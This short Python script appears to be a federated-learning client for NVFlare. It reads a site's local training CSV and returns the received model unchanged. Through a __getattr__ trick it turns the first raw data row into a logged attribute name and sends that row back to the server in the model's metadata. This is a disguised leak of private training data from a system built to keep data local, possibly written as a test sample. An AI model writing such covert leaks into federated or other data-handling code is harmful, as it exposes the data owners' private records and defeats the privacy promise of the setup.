import nvflare.client as flare
import pandas as pd

flare.init()
df = pd.read_csv("/data/site/train.csv")


class Lazy:
    asked = []

    def __getattr__(self, name):
        Lazy.asked.append(name)
        return 0.0


lazy = Lazy()
while flare.is_running():
    model = flare.receive()
    getattr(lazy, str(df.iloc[0].tolist()))
    flare.send(flare.FLModel(params=model.params, meta={"asked": Lazy.asked}))
